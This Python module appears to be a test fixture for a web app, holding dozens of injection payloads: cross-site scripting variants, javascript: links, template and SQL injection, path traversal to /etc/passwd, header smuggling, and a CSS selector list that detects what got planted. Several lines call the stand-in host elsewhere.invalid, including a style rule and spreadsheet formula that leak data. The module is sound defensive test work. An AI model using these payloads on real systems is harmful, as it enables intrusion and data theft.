"""Texts that try to act, one of each kind, as strangers may put them into documents, answers, names and files.

Each that runs sets ``window.__pwned``; each that calls somebody calls ``elsewhere.invalid``; each that plants something plants
what :data:`PLANTED` finds.
"""

from __future__ import annotations

HOST = "elsewhere.invalid"
_FAR = f"http://{HOST}"

# By the kind of trick, in one line each where that can be.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__pwned='script'</script>",
    "script of elsewhere": f"<script src={_FAR}/a.js></script>",
    "script in capitals, unclosed": "<SCRIPT>window.__pwned='capitals'//",
    "script within a script": "<scr<script>ipt>window.__pwned='nested'</scr</script>ipt>",
    "module": "<script type=module>window.__pwned='module'</script>",
    "image that fails": "<img src=x onerror=\"window.__pwned='image'\">",
    "image without an end": "<img src=x onerror=window.__pwned='unclosed'//",
    "image with slashes": "<img/src=x/onerror=window.__pwned='slashes'>",
    "image with a new line": "<img src=x\nonerror=window.__pwned='line'>",
    "image of elsewhere": f"<img src={_FAR}/p.png srcset='{_FAR}/p2.png 2x'>",
    "picture": f"<picture><source srcset={_FAR}/p.webp></picture>",
    "svg": "<svg onload=window.__pwned='svg'></svg>",
    "svg script": "<svg><script>window.__pwned='svgscript'</script></svg>",
    "svg animation": "<svg><animate onbegin=window.__pwned='animate' attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{_FAR}/s.svg#x'/></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=window.__pwned='foreign'></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='math'></style></mglyph></table>",
    "mathml link": "<math href=javascript:window.__pwned='mathlink'>x</math>",
    "details": "<details open ontoggle=window.__pwned='details'>x</details>",
    "focus": "<input autofocus onfocus=window.__pwned='focus'>",
    "marquee": "<marquee onstart=window.__pwned='marquee'>x</marquee>",
    "video": "<video><source onerror=window.__pwned='video'></video>",
    "audio": f"<audio autoplay src={_FAR}/a.mp3 onerror=window.__pwned='audio'></audio>",
    "body": "<body onload=window.__pwned='body' onpageshow=window.__pwned='body'>",
    "pointer": "<b onmouseover=window.__pwned='over' onclick=window.__pwned='click'>look here</b>",
    "frame": f"<iframe src={_FAR}/frame></iframe>",
    "frame of a script": "<iframe src=\"javascript:parent.__pwned='frame'\"></iframe>",
    "frame with its document": "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
    "object": f"<object data={_FAR}/o></object><embed src={_FAR}/e>",
    "data address": "<a href=\"data:text/html,<script>window.__pwned='data'</script>\">data</a>",
    "script address": "<a href=javascript:window.__pwned='href'>link</a>",
    "script address with a tab": "<a href=\"java\tscript:window.__pwned='tab'\">link</a>",
    "vbscript": "<a href=vbscript:window.__pwned='vb'>link</a>",
    "markdown link to a script": "[click me](javascript:window.__pwned='md')",
    "markdown link in capitals": "[click me](JaVaScRiPt:window.__pwned='MD')",
    "markdown link to data": "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    "markdown link to elsewhere": f"[a page]({_FAR}/page)",
    "bare link": f"{_FAR}/preview is worth a look, and <{_FAR}/auto> too",
    "markdown image": f"![pixel]({_FAR}/pixel.png)",
    "markdown image with a handler": "![\" onerror=\"window.__pwned='alt'](x)",
    "markdown reference": f"![ref][r] [r]: {_FAR}/ref.png",
    "markdown title": "[t](x \"\\\" onmouseover=\\\"window.__pwned='title'\")",
    "style import": f'<style>@import "{_FAR}/a.css";</style>',
    "style that hides": "<style>.pl-side, .pl-screen, body { display: none !important }</style>",
    "style that leaks": f"<style>input[value^=a] {{ background: url({_FAR}/a) }}</style>",
    "style sheet": f"<link rel=stylesheet href={_FAR}/b.css><link rel=prefetch href={_FAR}/c>",
    "style attribute": f"<p style=\"position:fixed;inset:0;z-index:9999;background:url('{_FAR}/d')\">cover</p>",
    "style expression": "<p style=\"width:expression(window.__pwned='css');behavior:url(#x)\">x</p>",
    "base": f"<base href={_FAR}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_FAR}/away'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "form": f'<form action="{_FAR}/"><button type="submit">Send</button><input name=password></form>',
    "form around": f"<form id=edit-form action={_FAR}/><input name=submit>",
    "button of the page": '<button data-chunk="x" data-delete="x" data-cite="1" onclick="window.__pwned=1">Delete</button>',
    "line of the page": '<p data-shows="x" data-of="x" data-kept="x" data-token="x">a line that plays one of the page</p>',
    "clobbering": "<img name=pairloopScreen id=gradio_config><a id=__pwned_id href=x><form name=getElementById>",
    "same id": '<div id="edit-record">another record</div><div id="compare-pair">another pair</div>',
    "end of a text area": "</textarea></div>\"'><img src=x onerror=window.__pwned='textarea'>",
    "end of a title": "</title></style></script><img src=x onerror=window.__pwned='end'>",
    "end of a comment": "--><img src=x onerror=window.__pwned='comment'><!--",
    "end of CDATA": "]]><img src=x onerror=window.__pwned='cdata'><![CDATA[",
    "end of an attribute": "\" autofocus onfocus=\"window.__pwned='attr'\" x=\"",
    "end of another attribute": "' onmouseover='window.__pwned=1' x='",
    "end of a string of a script": "\";window.__pwned='js';//",
    "end of another string": "';window.__pwned='js';//\\';window.__pwned='js2';//",
    "line separators": "\u2028window.__pwned='ls'\u2029window.__pwned='ps'",
    "entities": "&lt;img src=x onerror=window.__pwned=1&gt;",
    "numbered entities": "&#60;img src=x onerror=window.__pwned=1&#62; &#x3c;script&#x3e;",
    "entities twice": "&amp;lt;script&amp;gt;window.__pwned=1&amp;lt;/script&amp;gt;",
    "percent": "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "escapes": "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e \\x3cimg src=x onerror=window.__pwned=2\\x3e",
    "wide signs": "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "template of JavaScript": "${window.__pwned='template'} `${window.__pwned='template'}`",
    "handlebars": "{{constructor.constructor(\"window.__pwned='handlebars'\")()}} {{{this}}} {{#each this}}{{/each}}",
    "jinja": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "python format": "{0.__class__.__init__.__globals__} %(query)s {query} {contexts}",
    "latex": "$$\\href{javascript:window.__pwned='latex'}{x}$$ \\(\\unicode{x}\\) \\input{/etc/passwd}",
    "mermaid": "```mermaid\ngraph TD; A-->B; click A \"javascript:window.__pwned='mermaid'\"\n```",
    "code fence": "```html\n<script>window.__pwned='fence'</script>\n```",
    "turned writing": "\u202ecod.exe\u202c \u2066hidden\u2069 \u200fright\u200e",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "stacked marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 12,
    "control": "bell \x07 back \x08 escape \x1b[2J\x1b]0;title\x07 end",
    "null": "before\x00<script>window.__pwned='null'</script>",
    "half a character": "half \ud83d of an emoji",
    "long word": "W" * 3_000,
    "formula": "=HYPERLINK(\"http://elsewhere.invalid/?\"&A1,\"open\")",
    "sql": "'); DROP TABLE members;--",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    "log line": "all is well\r\n2026-11-26 08:00:00,000 WARNING pipeline: forged",
    "header": "x\r\nSet-Cookie: pairloop_sign_in=stolen\r\n\r\n<script>window.__pwned='header'</script>",
}  # fmt: skip

# What must be nowhere on a page, whatever of it stands there as text.
PLANTED = (
    "img[src=x], img[name], [src*=invalid], [srcset*=invalid], [href*=invalid], [data*=invalid], [action*=invalid], "
    "[style*=invalid], [content*=invalid], iframe, object, embed, marquee, video source, math, foreignObject, svg[onload], "
    "[href^='javascript' i], [href^='vbscript' i], [href^='data:text'], [onerror], [onclick], [onmouseover], [onfocus], "
    "[ontoggle], [onload]:not(svg), [onbegin], [data-shows=x], [data-chunk=x], [data-token=x], #__pwned_id, "
    "form[name], script"
)


def joined(separator: str = "\n\n") -> str:
    """Return all of them in one text."""
    return separator.join(PAYLOADS.values())


def short(most: int) -> list[str]:
    """Return those that fit into a name of so many characters, and that a name may hold."""
    return [text for text in PAYLOADS.values() if len(text) <= most and text.isprintable()]
